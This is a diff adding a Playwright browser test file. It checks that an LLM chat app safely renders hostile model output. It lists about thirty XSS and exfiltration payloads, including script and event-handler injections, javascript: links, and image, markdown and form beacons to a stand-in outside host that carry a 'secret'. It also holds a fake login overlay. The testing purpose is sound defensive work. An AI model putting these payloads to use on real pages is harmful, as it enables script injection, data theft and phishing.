@@ -1,0 +1,106 @@
+"""A model that prints whatever could run or call out in a browser."""
+
+import urllib.request
+
+import pytest
+from playwright.sync_api import expect
+
+from llmfirst.events import PHASES
+from tests.browser.conftest import Open, Serve
+from tests.browser.elsewhere import elsewhere
+from tests.browser.served import endless
+from tests.scripted import END, ScriptedProvider
+
+pytestmark = pytest.mark.browser
+_PAYLOADS = (
+    "<script>window.ran = 1</script>",
+    '<script src="{there}/script.js"></script>',
+    '<img src="x" onerror="window.ran = 1">',
+    '<img src="{there}/image.png?secret=1">',
+    "![a picture]({there}/markdown.png?secret=1)",
+    '<svg onload="window.ran = 1"><script>window.ran = 1</script></svg>',
+    '<svg><use href="{there}/use.svg#a"/><image href="{there}/image.svg"/></svg>',
+    '<a href="javascript:window.ran = 1" id="link">a link</a>',
+    "[a link](javascript:window.ran=1)",
+    "<[a link](java\tscript:window.ran=1)>",
+    '<iframe src="{there}/frame.html" srcdoc="<script>parent.ran = 1</script>"></iframe>',
+    '<form action="{there}/form"><input name="secret" value="1"><button class="send">Send</button></form>',
+    '<form action="javascript:window.ran = 1"><button type="submit" class="send">Go</button></form>',
+    '<div style="position:fixed;inset:0;z-index:99999;background:white">Please log in</div>',
+    '<style>body {{ background: url("{there}/style.png") }} #ask {{ display: none }}</style>',
+    '<link rel="stylesheet" href="{there}/sheet.css">',
+    '<button id="ask" onclick="window.ran = 1">Ask</button><button id="stop">Stop</button>',
+    '<div id="question"><textarea>stolen</textarea></div><textarea id="run-id">forged</textarea>',
+    '<meta http-equiv="refresh" content="0;url={there}/refresh">',
+    '<base href="{there}/">',
+    "$$\\href{{javascript:window.ran=1}}{{x}}$$ $$\\includegraphics{{{there}/latex.png}}$$",
+    '<video src="{there}/video.mp4" autoplay></video><audio src="{there}/audio.mp3" autoplay></audio>',
+    '<object data="{there}/object"></object><embed src="{there}/embed">',
+    '<details open ontoggle="window.ran = 1">x</details><input autofocus onfocus="window.ran = 1">',
+    '<form action="/api/stream"><input name="question" value="again"><button class="send">Go</button></form>',
+    "![a picture](/api/stream?question=again)",
+    "```html\n</code></pre><script>window.ran = 1</script>\n```",
+    "<div style=\"background-image: url('{there}/background.png')\">x</div>",
+    '<math><mtext><style><img src="x" onerror="window.ran = 1"></style></mtext></math>',
+)
+# What the browser says when it refuses, and images of this server that are none.
+_REFUSED = (
+    "Content Security Policy|request to another origin: http://localhost|404 for |status of 40[34]|403 for .*/api/"
+)
+_SPRING = """() => document.querySelectorAll('.panel :is(.send, button, a, summary)').forEach((trap) => {
+  trap.removeAttribute('target'); trap.click(); })"""
+
+
+def test_a_model_that_prints_hostile_text_runs_nothing_and_reaches_nobody(serve: Serve, visit: Open) -> None:
+    with elsewhere() as there:
+        urllib.request.urlopen(f"{there.url}/proof").close()
+        assert there.asked.pop() == "/proof"
+        text = "\n\n".join(payload.format(there=there.url) for payload in _PAYLOADS)
+        pieces = [text[at : at + 30] for at in range(0, len(text), 30)]  # tags are seen half written
+        replies = [[text, END], [*pieces, END], [text, END], [text, END]]
+        served = serve(ScriptedProvider(*replies, ["plan", END], endless("word ", 0.05)))
+        page = visit(served.url)
+        own_answers: list[tuple[str, int]] = []
+        page.page.on("response", lambda one: "/api/stream" in one.url and own_answers.append((one.url, one.status)))
+
+        def is_safe() -> None:
+            assert page.page.evaluate("() => window.ran") is None
+            assert there.asked == []
+            assert all(status == 403 for _, status in own_answers), "the model's text asked a question of its own"
+            assert page.page.url == f"{served.url}/?run={run_id}"
+            assert page.page.locator("a[href^='javascript' i], .panel :is(iframe, script, base)").count() == 0
+            page.forgive(_REFUSED)
+            assert page.problems == []
+
+        page.ask("Print script tags.")
+        page.wait_for("#state", "Complete")
+        run_id = page.run_id()
+        for phase in PHASES:
+            expect(page.page.locator(f"#panel-{phase}")).to_contain_text("Please log in")
+        is_safe()
+        page.page.evaluate(_SPRING)
+        is_safe()
+        page.reload()
+        page.wait_for("#state", "Complete")
+        is_safe()
+
+        page.page.locator("#asking #question textarea").fill("why?")
+        page.page.keyboard.press("Control+Enter")
+        page.wait_for("#panel-core", "word word")
+        page.page.keyboard.press("Escape")
+        page.wait_for("#state", "Stopped")
+        run_id = page.run_id()
+        is_safe()
+
+
+def test_a_models_text_cannot_cover_the_buttons(serve: Serve, visit: Open) -> None:
+    cover = '<div style="position:fixed;inset:0;z-index:99999;width:100vw;height:100vh;background:white">x</div>'
+    page = visit(serve(ScriptedProvider(["plan", END], [cover, END], ["a", END], ["b", END])).url)
+    page.ask("why?")
+    page.wait_for("#state", "Complete")
+    for button in ("ask", "stop"):
+        top = (
+            "(one) => { const b = one.getBoundingClientRect(); return document.elementFromPoint(b.x + 9, b.y + 9).id; }"
+        )
+        assert page.page.locator(f"#buttons #{button}").evaluate(top) == button
+    expect(page.page.locator("#panel-details")).to_have_text("a")
